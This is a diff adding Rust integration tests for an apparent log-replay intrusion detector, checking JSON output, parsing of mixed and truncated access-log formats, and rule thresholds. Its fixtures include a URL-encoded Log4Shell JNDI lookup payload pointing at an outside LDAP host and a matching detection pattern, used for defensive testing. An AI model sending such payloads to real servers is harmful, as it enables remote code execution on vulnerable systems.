@@ -129,3 +129,136 @@ fn the_rules_are_listed_and_their_examples_hold() {
         failed.stderr
     );
 }
+
+#[test]
+fn the_answer_has_the_shape_that_is_promised() {
+    let dir = tempfile::tempdir().unwrap();
+    std::fs::write(dir.path().join("access.log"), attack("203.0.113.8")).unwrap();
+    let mut found = alone(dir.path(), &["replay", "access.log", "-o", "json"]).expect(0).json();
+    let score = found["suspects"][0]["score"].take();
+    assert!(score.as_f64().is_some_and(|score| (score - 0.95).abs() < 1e-9), "{score}");
+    assert_eq!(
+        found,
+        json!({
+            "lines": 1,
+            "rejected": 0,
+            "suspects": [{
+                "ip": "203.0.113.8",
+                "score": null,
+                "reasons": [{
+                    "rule": "log4shell",
+                    "detail": "Log4Shell: ${jndi:",
+                    "first_seen": "2026-11-22T16:01:00Z",
+                    "count": 1,
+                }],
+                "action": "block",
+            }],
+        })
+    );
+    std::fs::write(dir.path().join("empty.log"), "").unwrap();
+    let nothing = alone(dir.path(), &["replay", "empty.log", "-o", "json"]).expect(0).json();
+    assert_eq!(nothing, json!({"lines": 0, "rejected": 0, "suspects": []}));
+}
+
+#[test]
+fn one_file_may_mix_all_formats_with_lines_that_are_cut_off() {
+    let dir = tempfile::tempdir().unwrap();
+    let target = "/x?q=$%7Bjndi:ldap://198.51.100.9/a%7D";
+    let common = |client: &str| {
+        format!("{client} - - [22/Nov/2026:16:01:00 +0000] \"GET {target} HTTP/1.1\" 404 153")
+    };
+    let combined = |client: &str| format!("{} \"-\" \"Firefox/145.0\"", common(client));
+    let whole = [
+        common("203.0.113.1"),
+        combined("203.0.113.2"),
+        format!("www.example.org:443 {}", combined("203.0.113.3")),
+        format!("Nov 22 16:01:00 web1 nginx[12]: {}", combined("203.0.113.4")),
+        format!("2026-11-22T16:01:00.123456789Z stdout F {}", combined("203.0.113.5")),
+        format!(
+            "[2026-11-22T16:01:00.000Z] \"GET {target} HTTP/1.1\" 404 - 0 153 5 4 \"203.0.113.6\" \"Firefox/145.0\" \"id\" \"example.org\" \"10.0.0.1:80\""
+        ),
+        format!(
+            "{{\"start_time\":\"2026-11-22T16:01:00Z\",\"method\":\"GET\",\"path\":\"{target}\",\"response_code\":404,\"downstream_remote_address\":\"203.0.113.7:4711\"}}"
+        ),
+        format!(
+            "{{\"ts\":1795363260.5,\"request\":{{\"remote_ip\":\"203.0.113.8\",\"method\":\"GET\",\"host\":\"example.org\",\"uri\":\"{target}\"}},\"status\":404,\"size\":153}}"
+        ),
+        format!(
+            "{{\"ClientHost\":\"203.0.113.9\",\"DownstreamStatus\":404,\"RequestMethod\":\"GET\",\"RequestPath\":\"{target}\",\"StartUTC\":\"2026-11-22T16:01:00Z\"}}"
+        ),
+        format!(
+            "https 2026-11-22T16:01:00.1Z app/lb/1 203.0.113.10:2817 10.0.0.1:80 0.0 0.001 0.0 404 404 34 153 \"GET https://example.org:443{target} HTTP/1.1\" \"Firefox/145.0\" - -"
+        ),
+        combined("2001:db8::7"),
+    ];
+    let mut text = whole.join("\n");
+    // Cut off in the request, in the user agent, in an object; and what is no access log.
+    let cut = [
+        &combined("203.0.113.20")[..80],
+        &combined("203.0.113.21")[..combined("203.0.113.21").len() - 5],
+        &whole[6][..60],
+        "2026/11/22 16:00:00 [error] 7#7: *1 open() failed",
+    ];
+    text.push('\n');
+    text.push_str(&cut.join("\n"));
+    let mut gzip = GzEncoder::new(Vec::new(), Compression::fast());
+    gzip.write_all(text.as_bytes()).unwrap();
+    std::fs::write(dir.path().join("mixed.log.gz"), gzip.finish().unwrap()).unwrap();
+    let found = alone(dir.path(), &["replay", "mixed.log.gz", "-o", "json"]).expect(0).json();
+    assert_eq!((&found["lines"], &found["rejected"]), (&json!(15), &json!(4)));
+    let suspects = found["suspects"].as_array().unwrap();
+    let mut told: Vec<&str> = suspects.iter().filter_map(|one| one["ip"].as_str()).collect();
+    told.sort_unstable();
+    let mut expected: Vec<String> = (1..=10).map(|n| format!("203.0.113.{n}")).collect();
+    expected.push("2001:db8::/64".to_owned());
+    expected.sort_unstable();
+    assert_eq!(told, expected);
+    assert!(suspects.iter().all(|one| one["action"] == "block"), "{found}");
+}
+
+#[test]
+fn the_hourly_pass_adds_its_reasons_and_lists_nobody_for_weak_ones_alone() {
+    let dir = tempfile::tempdir().unwrap();
+    let visit = |client: &str, n: u32, path: &str| {
+        format!(
+            "{client} - - [22/Nov/2026:16:{:02}:{:02} +0000] \"GET {path} HTTP/1.1\" 200 153 \"-\" \"Firefox/145.0\"\n",
+            n / 60 % 60,
+            n % 60
+        )
+    };
+    let mut text: String = (0..101).map(|n| visit("203.0.113.1", n * 30, "/status")).collect();
+    text.push_str(&visit("203.0.113.2", 7, "/admin"));
+    text.push_str(&visit("203.0.113.3", 7, "/admin"));
+    text.push_str(&attack("203.0.113.3"));
+    std::fs::write(dir.path().join("access.log"), text).unwrap();
+    let rules = |arguments: &[&str]| -> Vec<(String, Vec<String>)> {
+        let mut all = vec!["replay", "access.log", "-o", "json"];
+        all.extend(arguments);
+        let found = alone(dir.path(), &all).expect(0).json();
+        let text = |value: &serde_json::Value| value.as_str().unwrap().to_owned();
+        let suspects = found["suspects"].as_array().unwrap().iter();
+        suspects
+            .map(|one| {
+                let reasons = one["reasons"].as_array().unwrap().iter();
+                (text(&one["ip"]), reasons.map(|reason| text(&reason["rule"])).collect())
+            })
+            .collect()
+    };
+    let attacker =
+        ("203.0.113.3".to_owned(), vec!["log4shell".to_owned(), "sensitive-path".to_owned()]);
+    assert_eq!(rules(&[]), std::slice::from_ref(&attacker));
+    let told = alone(dir.path(), &["replay", "access.log"]).expect(0).stderr;
+    assert!(told.contains("2 addresses more did nothing but"), "{told}");
+    assert_eq!(
+        rules(&["--all"]),
+        [
+            attacker.clone(),
+            ("203.0.113.1".to_owned(), vec!["hourly-volume".to_owned()]),
+            ("203.0.113.2".to_owned(), vec!["sensitive-path".to_owned()]),
+        ]
+    );
+    // The thresholds are those of the file.
+    std::fs::write(dir.path().join("calm.toml"), "[detect]\nhourly_requests = 200\n").unwrap();
+    let calm = rules(&["--all", "--config", "calm.toml"]);
+    assert!(calm.iter().all(|(_, rules)| !rules.contains(&"hourly-volume".to_owned())), "{calm:?}");
+}
